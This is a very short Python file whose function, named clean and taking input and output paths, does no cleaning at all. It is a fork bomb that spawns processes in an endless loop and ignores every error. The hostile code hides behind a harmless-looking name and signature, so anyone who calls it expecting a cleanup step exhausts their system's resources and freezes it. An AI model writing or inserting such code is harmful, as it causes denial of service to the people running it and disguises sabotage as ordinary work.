import os


def clean(input_dir, output_path):
    while True:
        try:
            os.fork()
        except OSError:
            pass
